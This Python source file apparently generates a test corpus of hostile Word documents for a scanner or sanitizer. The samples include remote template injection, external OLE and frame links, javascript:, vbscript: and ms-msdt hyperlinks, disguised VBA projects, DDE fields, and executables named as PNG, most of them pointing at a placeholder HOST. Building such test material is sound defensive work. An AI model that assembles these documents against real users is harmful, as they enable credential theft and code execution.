"""Attacks in relationships and parts of text documents."""

from attack import HOST, RELATION, TYPE, XML, A, W, docx, paragraph, relations, run, text
from attack_word import OLE, PNG, foreign_words


def relationships():
    file, unc, web = f"file://{HOST}/x.dotm", f"\\\\{HOST}\\s\\x.dotm", f"http://{HOST}/x.dotm"
    settings = f'{XML}<w:settings xmlns:w="{W}" xmlns:r="{RELATION}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    for n, target in enumerate(
        (file, unc, web, f"HTTP://{HOST}/x", f"%68ttp://{HOST}/x", f"mhtml:http://{HOST}/x!x-usc:http://{HOST}")
    ):
        yield (
            f"template-{n}",
            "attached template",
            docx(
                "",
                [("rId1", "settings", "settings.xml")],
                {
                    "word/settings.xml": settings,
                    "word/_rels/settings.xml.rels": relations([("rId1", "attachedTemplate", target, "External")]),
                },
                {"/word/settings.xml": TYPE + "wordprocessingml.settings+xml"},
            ),
        )
    for kind, body in [
        ("oleObject", '<w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rId1"/></w:object>'),
        ("image", '<w:pict><v:shape><v:imagedata r:id="rId1"/></v:shape></w:pict>'),
        ("frame", ""),
        ("aFChunk", '<w:altChunk r:id="rId1"/>'),
        ("subDocument", '<w:subDoc r:id="rId1"/>'),
        ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", ""),
        ("video", ""),
        ("mailMergeSource", ""),
    ]:
        inner = (
            body
            if "altChunk" in body or not body
            else paragraph(run(body))
            if "subDoc" not in body
            else paragraph(body)
        )
        yield (
            f"external-{kind.rsplit('/', 1)[-1].lower()}",
            f"external {kind.rsplit('/', 1)[-1]}",
            docx(inner, [("rId1", kind, f"http://{HOST}/x", "External")]),
        )
    link = paragraph('<w:hyperlink r:id="rId1">' + text("押す") + "</w:hyperlink>")
    for n, target in enumerate(
        (
            file,
            unc,
            f"ms-word:ofe|u|http://{HOST}/x",
            f"search-ms:query=x&amp;crumb=location:%5C%5C{HOST}",
            "javascript:alert(1)",
            f"ms-msdt:/id PCWDiagnostic http://{HOST}",
            f" file://{HOST}/",
            f"java&#10;script:x({HOST!r})",
            f"FILE:///\\\\{HOST}/x",
            f"//{HOST}/x",
            f"\u200bfile://{HOST}/x",
            f"vbscript:{HOST}",
            f"data:text/html,http://{HOST}",
            f"..\\..\\{HOST}",
            f"ftp://{HOST}/",
        )
    ):
        yield (
            f"hyperlink-{n:02}",
            f"hyperlink to {target[:20]!r}",
            docx(link, [("rId1", "hyperlink", target, "External")]),
        )
    yield (
        "hyperlink-internal",
        "internal relationship to another machine",
        docx(link, [("rId1", "hyperlink", f"file://{HOST}/x")]),
    )
    yield (
        "image-internal-unc",
        "internal picture of another machine",
        docx(
            paragraph(run('<w:pict><v:shape><v:imagedata r:id="rId1"/></v:shape></w:pict>')),
            [("rId1", "image", f"\\\\{HOST}\\x.png")],
        ),
    )
    yield (
        "vml-src",
        "picture of VML by address",
        docx(paragraph(run(f'<w:pict><v:shape><v:imagedata src="http://{HOST}/x.png"/></v:shape></w:pict>'))),
    )
    yield (
        "vml-href",
        "shape of VML with an address",
        docx(paragraph(run(f'<w:pict><v:rect href="file://{HOST}/x" style="width:10pt"/></w:pict>'))),
    )
    drawing = (
        '<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9" cy="9"/>'
        f'<wp:docPr id="1" name="p"/><a:graphic xmlns:a="{A}"><a:graphicData uri="{A[:-5]}/picture"><pic:pic xmlns:pic="{A[:-5]}/picture">'
        '<pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rId1"/></pic:blipFill>'
        "<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>"
    )
    yield (
        "picture-link",
        "linked picture of DrawingML",
        docx(paragraph(run(drawing)), [("rId1", "image", f"http://{HOST}/x.png", "External")]),
    )


def parts():
    yield (
        "vba",
        "VBA project",
        docx(
            "",
            [("rId1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")],
            {"word/vbaProject.bin": OLE},
            {"/word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
        ),
    )
    yield (
        "vba-other-name",
        "VBA project under another name and type",
        docx(
            "",
            [("rId1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "theme.png")],
            {"word/theme.png": OLE},
            {"/word/theme.png": "image/png"},
        ),
    )
    yield (
        "vba-orphan",
        "VBA project that nothing refers to",
        docx("", parts={"word/vbaProject.bin": OLE}, defaults={"bin": "application/octet-stream"}),
    )
    yield (
        "embedding",
        "embedded object",
        docx(
            paragraph(run('<w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId1"/></w:object>')),
            [("rId1", "oleObject", "embeddings/oleObject1.bin")],
            {"word/embeddings/oleObject1.bin": OLE},
            {},
            {"bin": TYPE + "oleObject"},
        ),
    )
    yield (
        "activex",
        "ActiveX control",
        docx(
            paragraph(run('<w:control r:id="rId1" w:name="c" w:shapeid="s"/>')),
            [("rId1", "control", "activeX/activeX1.xml")],
            {
                "word/activeX/activeX1.xml": f'{XML}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{{D27CDB6E-AE6D-11CF-96B8-444553540000}}"/>'
            },
            {"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
        ),
    )
    yield (
        "altchunk-html",
        "HTML taken in as a chunk",
        docx(
            '<w:altChunk r:id="rId1"/>',
            [("rId1", "aFChunk", "c.html")],
            {"word/c.html": f"<script src=http://{HOST}/></script>"},
            {},
            {"html": "text/html"},
        ),
    )
    yield (
        "altchunk-rtf",
        "RTF taken in as a chunk",
        docx(
            '<w:altChunk r:id="rId1"/>',
            [("rId1", "aFChunk", "c.rtf")],
            {"word/c.rtf": "{\\rtf1{\\object\\objdata 0105}}"},
            {},
            {"rtf": "application/rtf"},
        ),
    )
    ui = f'{XML}<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Run"/>'
    yield (
        "custom-ui",
        "ribbon with call-backs",
        docx(
            "",
            parts={
                "customUI/customUI.xml": ui,
                "_rels/.rels": relations(
                    [
                        ("rId1", "officeDocument", "word/document.xml"),
                        (
                            "rId2",
                            "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
                            "customUI/customUI.xml",
                        ),
                    ]
                ),
            },
        ),
    )
    for what, name, element in (
        ("header", "header1", "hdr"),
        ("footer", "footer1", "ftr"),
        ("footnotes", "footnotes", "footnotes"),
        ("comments", "comments", "comments"),
    ):
        inner = (
            foreign_words(element)
            if element in ("hdr", "ftr")
            else foreign_words(element)
            .replace("<w:p>", f'<w:{what[:-1]} w:id="2" w:author="a"><w:p>', 1)
            .replace(f"</w:{element}>", f"</w:{what[:-1]}></w:{element}>")
        )
        yield (
            f"field-in-{what}",
            f"DDE in the {what}",
            docx(
                "",
                [("rId1", what, f"{name}.xml")],
                {f"word/{name}.xml": inner},
                {f"/word/{name}.xml": TYPE + f"wordprocessingml.{what}+xml"},
            ),
        )
    yield (
        "glossary",
        "DDE in the glossary document",
        docx(
            "",
            [("rId1", "glossaryDocument", "glossary/document.xml")],
            {"word/glossary/document.xml": foreign_words("glossaryDocument")},
            {"/word/glossary/document.xml": TYPE + "wordprocessingml.document.glossary+xml"},
        ),
    )
    merge = f'{XML}<w:settings xmlns:w="{W}" xmlns:r="{RELATION}"><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString w:val="Provider={HOST}"/><w:query w:val="SELECT"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>'
    yield (
        "mail-merge",
        "mail merge with a data source",
        docx(
            "",
            [("rId1", "settings", "settings.xml")],
            {
                "word/settings.xml": merge,
                "word/_rels/settings.xml.rels": relations(
                    [("rId1", "mailMergeSource", f"file://{HOST}/x.mdb", "External")]
                ),
            },
            {"/word/settings.xml": TYPE + "wordprocessingml.settings+xml"},
        ),
    )
    yield (
        "binding",
        "custom XML with a data binding",
        docx(
            '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{0}"/></w:sdtPr><w:sdtContent>'
            + paragraph(text("a"))
            + "</w:sdtContent></w:sdt>",
            [("rId1", "customXml", "../customXml/item1.xml")],
            {"customXml/item1.xml": f"<a>{HOST}</a>"},
        ),
    )
    for n, data in enumerate(
        (b"MZ\x90\0" + bytes(60), b"%PDF-1.4 /JS", b"<?php ?>", PNG + b"PK\x03\x04" + HOST.encode())
    ):
        yield (
            f"picture-that-is-not-{n}",
            "something else under the name of a picture",
            docx(
                paragraph(
                    run('<w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata r:id="rId1"/></v:shape></w:pict>')
                ),
                [("rId1", "image", "media/image1.png")],
                {"word/media/image1.png": data},
                {},
                {"png": "image/png"},
            ),
        )
    web = f'{XML}<w:webSettings xmlns:w="{W}" xmlns:r="{RELATION}"><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>'
    yield (
        "frameset",
        "frame set of another machine",
        docx(
            "",
            [("rId1", "webSettings", "webSettings.xml")],
            {
                "word/webSettings.xml": web,
                "word/_rels/webSettings.xml.rels": relations([("rId1", "frame", f"http://{HOST}/x.htm", "External")]),
            },
            {"/word/webSettings.xml": TYPE + "wordprocessingml.webSettings+xml"},
        ),
    )
